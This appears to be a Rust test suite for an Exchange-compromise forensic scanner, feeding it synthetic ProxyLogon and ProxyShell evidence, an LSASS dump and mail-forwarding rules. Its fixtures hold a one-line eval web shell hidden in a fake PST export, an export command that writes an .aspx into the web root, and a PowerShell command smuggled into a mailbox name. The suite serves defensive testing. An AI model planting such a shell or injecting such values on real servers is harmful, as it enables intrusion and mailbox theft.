//! What was taken (the exposure ledger), through the real binary: the
//! ProxyLogon example (the administrator identity taken via /mapi/emsmdb,
//! the mailboxes read through EWS by the attack's client, the address book
//! downloaded), a ProxyShell export into a web folder with its size, an
//! LSASS dump with the accounts the Security log names, forwarding to an
//! outside address (directly and through a mail contact), and a busy clean
//! server whose users read their own mail all day and whose administrator
//! exported a leaver's mailbox to a file share: an empty ledger but for
//! that export, on record as `info`.

mod common;

use common::*;
use exhunt_testgen::rng::SplitMix64;
use exhunt_testgen::time::Time;
use exhunt_testgen::tree;
use serde_json::Value;
use std::fmt::Write as _;
use std::path::Path;
use tempfile::TempDir;

fn taken(r: &Run) -> &Vec<Value> {
    r.report["taken"].as_array().expect("a taken array")
}

/// The entries of one step (`how`).
fn how<'a>(r: &'a Run, how: &str) -> Vec<&'a Value> {
    taken(r).iter().filter(|e| e["how"] == how).collect()
}

fn whose(e: &Value) -> Vec<String> {
    e["whose"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v.as_str().unwrap().to_string())
        .collect()
}

fn text_of(args: &[&str]) -> String {
    let out = exhunt().args(args).output().unwrap();
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn the_proxylogon_example_lists_the_identity_the_mailboxes_and_the_address_book() {
    let t = TempDir::new().unwrap();
    tree::write_example(t.path()).unwrap();
    let r = scan(&[t.path()]);
    assert_eq!(r.verdict(), "compromised");

    // The identity: /mapi/emsmdb and proxyLogon.ecp through the SSRF, the
    // SID later rows carry and the address the control panel logged.
    let id = how(&r, "identity-takeover");
    assert_eq!(id.len(), 1, "{:#?}", taken(&r));
    assert_eq!(id[0]["what"], "credentials");
    assert_eq!(id[0]["certainty"], "confirmed");
    let w = whose(id[0]);
    assert!(
        w.iter()
            .any(|s| s.starts_with("S-1-5-21-") && s.ends_with("-500")),
        "{w:?}"
    );
    assert!(
        w.contains(&"administrator@contoso.com".to_string()),
        "{w:?}"
    );
    assert_eq!(id[0]["clients"][0], tree::EXAMPLE_ATTACKER_IP);

    // The mailboxes read through EWS, named by the EWS log's rows of the
    // same requests; the users reading their own mail in that hour are not.
    let reads = how(&r, "ssrf-ews");
    assert_eq!(reads.len(), 1, "{:#?}", taken(&r));
    assert_eq!(reads[0]["certainty"], "confirmed");
    let mut w = whose(reads[0]);
    w.sort();
    let mut want: Vec<String> = tree::EXAMPLE_READ_MAILBOXES
        .iter()
        .map(|(m, _)| m.to_string())
        .collect();
    want.sort();
    assert_eq!(w, want);
    assert!(reads[0]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .any(|e| e["path"].as_str().unwrap().contains("Logging/Ews/")));
    for e in taken(&r) {
        for u in ["alice", "bob", "carol", "dave", "erin", "grace", "peggy"] {
            assert!(
                !whose(e).contains(&format!("{u}@contoso.com")),
                "{u} read their own mail: {e:#}"
            );
        }
    }
    // One entry per theft: the EWS log's rows are the SSRF's entry.
    assert!(how(&r, "ews").is_empty(), "{:#?}", taken(&r));

    // The address book.
    let oab = how(&r, "oab-download");
    assert_eq!(oab.len(), 1);
    assert_eq!(oab[0]["what"], "address-book");
    assert_eq!(oab[0]["certainty"], "confirmed");
    assert_eq!(oab[0]["clients"][0], tree::EXAMPLE_ATTACKER_IP);

    // The LSASS dump: every signed-in account, possible; none named (no
    // Security log in the example).
    let ls = how(&r, "lsass-dump");
    assert_eq!(ls[0]["certainty"], "possible");
    assert!(ls[0]["whose_note"]
        .as_str()
        .unwrap()
        .starts_with("all accounts signed in to this server since its last reboot"));

    // The web shell could open every mailbox: the ability, not the act.
    let shell = how(&r, "webshell");
    assert_eq!(shell.len(), 1, "{:#?}", taken(&r));
    assert_eq!(shell[0]["certainty"], "possible");
    assert!(whose(shell[0]).is_empty());
    assert!(shell[0]["whose_note"]
        .as_str()
        .unwrap()
        .starts_with("every mailbox"));

    // The next steps name what to do about each.
    let steps = r.report["next_steps"].to_string();
    assert!(
        steps.contains("whose identity the intruder took"),
        "{steps}"
    );
    assert!(steps.contains("ceo@contoso.com"), "{steps}");
    assert!(steps.contains("targeted phishing"), "{steps}");
    assert!(steps.contains("Check your obligations"), "{steps}");

    // The text report's section, right after the findings.
    let p = t.path().to_str().unwrap();
    let text = text_of(&["scan", p]);
    let found = text.find("What was found:").unwrap();
    let took = text.find("What was taken:").expect(&text);
    let next = text
        .find("\n\n")
        .map(|_| ())
        .and(text[found..].find("How far back"));
    assert!(found < took, "{text}");
    assert!(next.is_some_and(|n| found + n > took), "{text}");
    assert!(text.contains("whose: ceo@contoso.com"), "{text}");

    // The CSV: one row per mailbox or account, for the people who notify.
    let csv = text_of(&["scan", p, "--format", "ledger-csv"]);
    let mut rdr = csv::Reader::from_reader(csv.as_bytes());
    let head = rdr.headers().unwrap().clone();
    assert_eq!(&head[0], "host");
    assert_eq!(&head[2], "whose");
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    for (m, _) in tree::EXAMPLE_READ_MAILBOXES {
        assert!(
            rows.iter()
                .any(|x| &x[2] == m && &x[3] == "ssrf-ews" && &x[4] == "confirmed"),
            "{csv}"
        );
    }
    assert!(rows.iter().any(|x| &x[1] == "address-book"), "{csv}");
}

/// A management log with the given events (JSON lines, as Winlogbeat and
/// OTRF export them).
fn events(dir: &Path, name: &str, lines: &[String]) {
    let mut s = String::new();
    for l in lines {
        writeln!(s, "{l}").unwrap();
    }
    put(dir, &format!("events/{name}"), s.as_bytes());
}

#[test]
fn a_proxyshell_export_into_a_web_folder_is_a_confirmed_theft_with_its_size() {
    let t = TempDir::new().unwrap();
    events(
        t.path(),
        "MSExchange-Management.jsonl",
        &[
            mgmt_event(
                "2021-08-20T03:11:00.000Z",
                "New-ManagementRoleAssignment",
                "-Role \"Mailbox Import Export\" -User \"svc-backup@contoso.com\"",
                "NT AUTHORITY\\SYSTEM",
            ),
            mgmt_event(
                "2021-08-20T03:12:40.000Z",
                "New-MailboxExportRequest",
                "-Mailbox \"ceo@contoso.com\" -IncludeFolders \"#Drafts#\" -ContentFilter \"(Subject -eq 'x')\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\dsrfa.aspx\"",
                "contoso.local/Users/svc-backup",
            ),
        ],
    );
    // The exported file: PST magic, then the page the attachment decodes to.
    let mut pst = b"!BDN".to_vec();
    pst.extend(std::iter::repeat_n(0u8, 508));
    pst.extend_from_slice(
        b"<%@ Page Language=\"Jscript\"%><%eval(Request[\"exec_code\"],\"unsafe\");%>",
    );
    pst.extend(std::iter::repeat_n(0x5au8, 265_000 - pst.len()));
    put(t.path(), "inetpub/wwwroot/aspnet_client/dsrfa.aspx", &pst);
    let r = scan(&[t.path()]);
    assert_eq!(r.verdict(), "compromised");
    let ex = how(&r, "mailbox-export");
    assert_eq!(ex.len(), 1, "{:#?}", taken(&r));
    assert_eq!(ex[0]["certainty"], "confirmed");
    assert_eq!(whose(ex[0]), vec!["ceo@contoso.com".to_string()]);
    assert_eq!(ex[0]["size"], 265_000);
    assert!(ex[0]["to"].as_str().unwrap().ends_with("dsrfa.aspx"));
    // The file is that export's, not a second entry.
    assert!(how(&r, "pst-file").is_empty(), "{:#?}", taken(&r));
}

fn security_event(time: &str, id: u32, user: &str, domain: &str) -> String {
    serde_json::json!({
        "Channel": "Security",
        "Hostname": "EX01.contoso.local",
        "SourceName": "Microsoft-Windows-Security-Auditing",
        "EventID": id,
        "TimeCreated": time,
        "@timestamp": time,
        "TargetUserName": user,
        "TargetDomainName": domain,
        "LogonType": "3",
        "IpAddress": "10.0.4.21",
    })
    .to_string()
}

#[test]
fn an_lsass_dump_exposes_every_signed_in_account_and_names_those_the_security_log_shows() {
    let t = TempDir::new().unwrap();
    let mut log = vec![
        // The previous boot, and an account signed in before it only.
        security_event("2021-02-27T01:00:00.000Z", 4608, "", ""),
        security_event("2021-02-27T08:00:00.000Z", 4624, "olduser", "CONTOSO"),
        security_event("2021-03-01T05:59:00.000Z", 4608, "", ""),
    ];
    for (i, (u, d)) in [
        ("alice", "CONTOSO"),
        ("svc-backup", "CONTOSO"),
        ("Administrator", "CONTOSO"),
        ("EX01$", "CONTOSO"),
        ("SYSTEM", "NT AUTHORITY"),
        ("DWM-1", "Window Manager"),
        ("ANONYMOUS LOGON", "NT AUTHORITY"),
    ]
    .iter()
    .enumerate()
    {
        for k in 0..5 {
            log.push(security_event(
                &format!("2021-03-0{}T{:02}:1{k}:00.000Z", 1 + i % 2, 8 + i),
                4624,
                u,
                d,
            ));
        }
    }
    // Explicit credentials, then a sign-in after the dump (not in it).
    log.push(security_event(
        "2021-03-02T11:00:00.000Z",
        4648,
        "domainadmin",
        "CONTOSO",
    ));
    log.push(security_event(
        "2021-03-04T09:00:00.000Z",
        4624,
        "latecomer",
        "CONTOSO",
    ));
    events(t.path(), "Security.jsonl", &log);
    // The dump, dated as the intruders left it.
    let mut dmp = b"MDMP\x93\xa7\x00\x00".to_vec();
    dmp.extend(std::iter::repeat_n(0u8, 504));
    dmp.extend(
        "C:\\Windows\\System32\\lsass.exe"
            .encode_utf16()
            .flat_map(u16::to_le_bytes),
    );
    put(t.path(), "Windows/Temp/lsass.dmp", &dmp);
    let f = std::fs::File::options()
        .write(true)
        .open(t.path().join("Windows/Temp/lsass.dmp"))
        .unwrap();
    let when = std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_614_755_528); // 2021-03-03T07:12:08Z
    f.set_modified(when).unwrap();
    drop(f);

    let r = scan(&[t.path()]);
    assert_eq!(r.verdict(), "compromised");
    let ls = how(&r, "lsass-dump");
    assert_eq!(ls.len(), 1, "{:#?}", taken(&r));
    assert_eq!(ls[0]["what"], "credentials");
    assert_eq!(ls[0]["certainty"], "possible");
    let mut w = whose(ls[0]);
    w.sort();
    assert_eq!(
        w,
        vec![
            "CONTOSO\\Administrator",
            "CONTOSO\\alice",
            "CONTOSO\\domainadmin",
            "CONTOSO\\svc-backup"
        ],
        "machine accounts and Windows' own sessions hold no person's password; olduser signed in before the last boot, latecomer after the dump"
    );
    assert!(ls[0]["whose_note"]
        .as_str()
        .unwrap()
        .contains("2021-03-01T05:59:00.000Z"));
    let steps = r.report["next_steps"].to_string();
    assert!(
        steps.contains("Reset the password of every account"),
        "{steps}"
    );
    assert!(steps.contains("CONTOSO\\\\alice"), "{steps}");
}

#[test]
fn forwarding_to_an_outside_address_is_mail_still_leaking() {
    let t = TempDir::new().unwrap();
    let hostile = "cfo'; Remove-Mailbox -Identity boss; '@contoso.com";
    events(
        t.path(),
        "MSExchange-Management.jsonl",
        &[
            // Ordinary: a forward to a colleague.
            mgmt_event(
                "2021-03-05T10:00:00.000Z",
                "New-InboxRule",
                "-Mailbox \"assistant@contoso.com\" -Name \"to deputy\" -ForwardTo \"deputy@contoso.com\"",
                "contoso.local/Users/assistant",
            ),
            // Out of the organisation, from a mailbox named to break a
            // pasted command.
            mgmt_event(
                "2021-03-05T10:12:00.000Z",
                "New-InboxRule",
                &format!("-Mailbox \"{hostile}\" -Name \".\" -ForwardTo \"drop@mailbox-collect.example\" -MarkAsRead \"True\""),
                "contoso.local/Users/Administrator",
            ),
            // Through a mail contact.
            mgmt_event(
                "2021-03-05T10:14:00.000Z",
                "New-MailContact",
                "-Name \"Backup Contact\" -ExternalEmailAddress \"SMTP:backup@mailbox-collect.example\"",
                "contoso.local/Users/Administrator",
            ),
            mgmt_event(
                "2021-03-05T10:15:00.000Z",
                "Set-Mailbox",
                "-Identity \"ceo@contoso.com\" -ForwardingAddress \"Backup Contact\" -DeliverToMailboxAndForward \"True\"",
                "contoso.local/Users/Administrator",
            ),
        ],
    );
    let r = scan(&[t.path()]);
    assert_eq!(r.verdict(), "compromised");
    assert_eq!(r.rule("mail-forwarded-out").len(), 2, "{:#?}", r.findings());
    let flows: Vec<&Value> = taken(&r)
        .iter()
        .filter(|e| e["what"] == "mail-flow")
        .collect();
    assert_eq!(flows.len(), 2, "{:#?}", taken(&r));
    for e in &flows {
        assert_eq!(e["certainty"], "confirmed");
        assert_eq!(e["ongoing"], true);
    }
    let rule = flows.iter().find(|e| e["how"] == "inbox-rule").unwrap();
    assert_eq!(whose(rule), vec![hostile.to_string()]);
    assert_eq!(rule["to"], "drop@mailbox-collect.example");
    let fwd = flows
        .iter()
        .find(|e| e["how"] == "mailbox-forwarding")
        .unwrap();
    assert_eq!(whose(fwd), vec!["ceo@contoso.com".to_string()]);
    assert!(fwd["to"]
        .as_str()
        .unwrap()
        .contains("backup@mailbox-collect.example"));
    assert!(!r.report["taken"].to_string().contains("deputy@contoso.com"));
    // The removal commands, with the logged names quoted so that pasting
    // them runs nothing else.
    let steps: Vec<&str> = r.report["next_steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap())
        .collect();
    let inbox = steps
        .iter()
        .find(|s| s.contains("Remove-InboxRule"))
        .expect("a removal step");
    assert!(
        inbox.contains(
            "Get-InboxRule -Mailbox 'cfo''; Remove-Mailbox -Identity boss; ''@contoso.com'"
        ),
        "{inbox}"
    );
    assert!(steps.iter().any(
        |s| s.contains("Set-Mailbox -Identity 'ceo@contoso.com' -ForwardingSmtpAddress $null")
    ));
    // The JSONL summary line says so too, for the SIEM.
    let jsonl = text_of(&["scan", t.path().to_str().unwrap(), "--format", "jsonl"]);
    let summary: Value = jsonl
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|v| v["type"] == "summary")
        .unwrap();
    assert_eq!(summary["taken"], 2);
    assert_eq!(summary["still_leaking"], true);
}

#[test]
fn a_busy_clean_server_has_an_empty_ledger_but_the_admins_export_on_record() {
    let t = TempDir::new().unwrap();
    tree::write_clean(t.path()).unwrap();
    // A day of users reading their own mail through EWS.
    let mut rng = SplitMix64::new(7);
    let users = ["alice", "bob", "carol", "dave", "erin", "grace", "peggy"];
    for h in 0..24 {
        let hour = Time::utc(2021, 3, 3, h, 0, 0);
        let rows = exhunt_testgen::ews::benign_hour(&mut rng, hour, &users, 300);
        put(
            t.path(),
            &exhunt_testgen::ews::path(hour),
            &exhunt_testgen::ews::render(hour, &rows),
        );
    }
    events(
        t.path(),
        "MSExchange-Management.jsonl",
        &[
            mgmt_event(
                "2021-03-03T09:41:00.000Z",
                "New-MailboxExportRequest",
                "-Mailbox \"leaver@contoso.com\" -FilePath \"\\\\FS01\\PSTExports$\\leaver.pst\"",
                "CONTOSO\\admin1",
            ),
            mgmt_event(
                "2021-03-03T11:05:00.000Z",
                "Remove-MailboxExportRequest",
                "-Identity \"leaver@contoso.com\\MailboxExport\" -Confirm \"False\"",
                "CONTOSO\\admin1",
            ),
        ],
    );
    let r = scan(&[t.path()]);
    assert!(r.unraised(), "{} {:#?}", r.verdict(), r.moving());
    let all = taken(&r);
    assert_eq!(all.len(), 1, "{all:#?}");
    assert_eq!(all[0]["how"], "mailbox-export");
    assert_eq!(all[0]["certainty"], "info");
    assert_eq!(whose(&all[0]), vec!["leaver@contoso.com".to_string()]);
    assert!(all[0]["whose_note"].as_str().unwrap().contains("admin1"));
    let steps = r.report["next_steps"].to_string();
    assert!(
        !steps.contains("Mailboxes were exported or read"),
        "{steps}"
    );
    assert!(!steps.contains("Check your obligations"), "{steps}");
    let text = text_of(&["scan", t.path().to_str().unwrap()]);
    assert!(
        text.contains("What was taken: nothing shows a theft; on record:"),
        "{text}"
    );
    // The protocol logs were not read: nothing tied a client to an attack.
    assert!(!r.report["coverage"].to_string().contains("EWS ("));
}

/// An hour of HttpProxy rows of `protocol` (users at work, from the
/// generator), with `extra` rows merged in by time.
fn httpproxy_hour(
    root: &Path,
    protocol: exhunt_testgen::httpproxy::Protocol,
    hour: Time,
    extra: Vec<exhunt_testgen::httpproxy::Row>,
) {
    let mut traffic = exhunt_testgen::httpproxy::Traffic::with_users(11, 40);
    let mut rows = traffic.hour(protocol, hour, 300);
    rows.extend(extra);
    rows.sort_by(|a, b| a.date_time.cmp(&b.date_time));
    let rel = format!(
        "{EXCHANGE}/Logging/HttpProxy/{}/HttpProxy_{}-1.LOG",
        protocol.name(),
        hour.hour_stamp()
    );
    put(
        root,
        &rel,
        &exhunt_testgen::httpproxy::render(Default::default(), hour, &rows),
    );
}

/// A request from `ip` as `user` for `mailbox`, answered `status`.
fn request(
    protocol: exhunt_testgen::httpproxy::Protocol,
    at: Time,
    ip: &str,
    mailbox: &str,
    stem: &str,
    query: &str,
    status: u16,
) -> exhunt_testgen::httpproxy::Row {
    let mut traffic = exhunt_testgen::httpproxy::Traffic::with_users(5, 5);
    let mut r = traffic.row(protocol, at);
    r.client_ip_address = ip.to_string();
    r.user_agent = "python-requests/2.25.1".to_string();
    r.anchor_mailbox = if mailbox.is_empty() {
        String::new()
    } else {
        format!("Smtp~{mailbox}")
    };
    r.url_stem = stem.to_string();
    r.url_query = query.to_string();
    r.http_status = status.to_string();
    r.back_end_status = status.to_string();
    r
}

#[test]
fn the_attack_clients_requests_name_the_mailboxes_they_opened() {
    use exhunt_testgen::httpproxy::Protocol;
    let t = TempDir::new().unwrap();
    let ip = "91.192.103.43";
    let lb = "10.0.0.1";
    let hour = Time::utc(2021, 8, 20, 3, 0, 0);
    // The web shell, requested from the intruder's address and through the
    // load balancer's (whose address every user's request carries).
    let mut iis = String::from("#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-08-20 00:00:00\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n");
    for (t, who) in [("03:05:10", ip), ("03:06:00", lb)] {
        iis.push_str(&format!("2021-08-20 {t} 10.0.0.10 POST /aspnet_client/system_web/sh3ll.aspx - 443 - {who} antSword/v2.1 - 200 0 0 31\r\n"));
    }
    put(
        t.path(),
        "inetpub/logs/LogFiles/W3SVC1/u_ex210820.log",
        iis.as_bytes(),
    );
    httpproxy_hour(
        t.path(),
        Protocol::Owa,
        hour,
        vec![
            request(
                Protocol::Owa,
                hour.plus_secs(900),
                ip,
                "hr@contoso.com",
                "/owa/service.svc",
                "action=FindItem",
                200,
            ),
            request(
                Protocol::Owa,
                hour.plus_secs(905),
                ip,
                "hr@contoso.com",
                "/owa/service.svc",
                "action=GetItem",
                200,
            ),
            // Refused: nothing taken.
            request(
                Protocol::Owa,
                hour.plus_secs(910),
                ip,
                "payroll@contoso.com",
                "/owa/service.svc",
                "action=FindItem",
                401,
            ),
            // A user's own mail through the load balancer.
            request(
                Protocol::Owa,
                hour.plus_secs(960),
                lb,
                "zoe@contoso.com",
                "/owa/service.svc",
                "action=GetItem",
                200,
            ),
        ],
    );
    httpproxy_hour(
        t.path(),
        Protocol::Mapi,
        hour,
        vec![request(
            Protocol::Mapi,
            hour.plus_secs(1200),
            ip,
            "",
            "/mapi/emsmdb/",
            "?MailboxId=finance%40contoso.com",
            200,
        )],
    );
    // The back end's MAPI over HTTP log of the same session.
    let mut mapi = String::from("DateTime,RequestId,ClientIpAddress,AuthenticatedUser,AuthenticatedUserEmail,ActAsUserEmail,RequestType,ClientSoftware,ClientSoftwareVersion,RopIds,GenericErrors\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.01.2106.002\r\n#Log-type: MapiHttp Logs\r\n#Date: 2021-08-20T03:00:00.000Z\r\n#Fields: DateTime,RequestId,ClientIpAddress,AuthenticatedUser,AuthenticatedUserEmail,ActAsUserEmail,RequestType,ClientSoftware,ClientSoftwareVersion,RopIds,GenericErrors\r\n");
    for (k, who, mbx) in [
        (0, "10.0.3.4", "bob@contoso.com"),
        (1, ip, "treasury@contoso.com"),
        (2, "10.0.3.9", "carol@contoso.com"),
    ] {
        mapi.push_str(&format!(
            "2021-08-20T03:2{k}:00.000Z,6a1f{k}c2e-0000-4000-8000-00000000000{k},{who},CONTOSO\\svc-backup,svc-backup@contoso.com,{mbx},Execute,Outlook,16.0.13801,2;4;7,\r\n"
        ));
    }
    put(
        t.path(),
        &format!("{EXCHANGE}/Logging/MapiHttp/Mailbox/MapiHttp_2021082003-1.LOG"),
        mapi.as_bytes(),
    );

    let r = scan(&[t.path()]);
    assert_eq!(r.verdict(), "compromised");
    // The intruder's own address: confirmed; the load balancer's user:
    // listed apart, only as possible, and said why.
    let owa = how(&r, "owa");
    assert_eq!(owa.len(), 2, "{:#?}", taken(&r));
    let sure = owa.iter().find(|e| e["certainty"] == "confirmed").unwrap();
    assert_eq!(
        whose(sure),
        vec!["hr@contoso.com".to_string()],
        "payroll's request was refused"
    );
    assert_eq!(sure["count"], 2);
    let weak = owa.iter().find(|e| e["certainty"] == "possible").unwrap();
    assert!(whose(weak).contains(&"zoe@contoso.com".to_string()));
    assert!(weak["whose_note"]
        .as_str()
        .unwrap()
        .contains("shared internal address"));
    assert!(!whose(weak).contains(&"hr@contoso.com".to_string()));
    let mapi = how(&r, "mapi");
    assert_eq!(mapi.len(), 1, "{:#?}", taken(&r));
    let mut w = whose(mapi[0]);
    w.sort();
    assert_eq!(w, vec!["finance@contoso.com", "treasury@contoso.com"]);
    assert!(mapi[0]["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .any(|e| e["path"].as_str().unwrap().contains("MapiHttp/Mailbox")));
    // The users of the MAPI log are not the intruder's.
    assert!(!taken(&r)
        .iter()
        .any(|e| whose(e).contains(&"bob@contoso.com".to_string())));
    assert!(r.report["coverage"]
        .to_string()
        .contains("MAPI (the attack's hours only)"));
}

#[test]
fn pst_files_left_in_web_folders_or_staging_places_are_exports_with_their_size() {
    let t = TempDir::new().unwrap();
    let pst = |n: usize| {
        let mut b = b"!BDN".to_vec();
        b.extend((0..n - 4).map(|i| (i * 7 % 251) as u8));
        b
    };
    put(
        t.path(),
        "inetpub/wwwroot/aspnet_client/exp.pst",
        &pst(40_000),
    );
    put(t.path(), "Windows/Temp/a1.pst", &pst(12_345));
    // An Outlook archive in a user's documents is the user's.
    put(
        t.path(),
        "Users/bob/Documents/Outlook Files/archive.pst",
        &pst(9_000),
    );
    let r = scan(&[t.path()]);
    assert_eq!(r.verdict(), "compromised");
    let files = r.rule("mailbox-export-file");
    assert_eq!(files.len(), 2, "{:#?}", r.findings());
    let mut got: Vec<(String, u64)> = how(&r, "pst-file")
        .iter()
        .map(|e| {
            assert_eq!(e["certainty"], "confirmed");
            (
                e["to"].as_str().unwrap().to_string(),
                e["size"].as_u64().unwrap(),
            )
        })
        .collect();
    got.sort();
    assert_eq!(
        got,
        vec![
            ("Windows/Temp/a1.pst".to_string(), 12_345),
            ("inetpub/wwwroot/aspnet_client/exp.pst".to_string(), 40_000)
        ]
    );
}
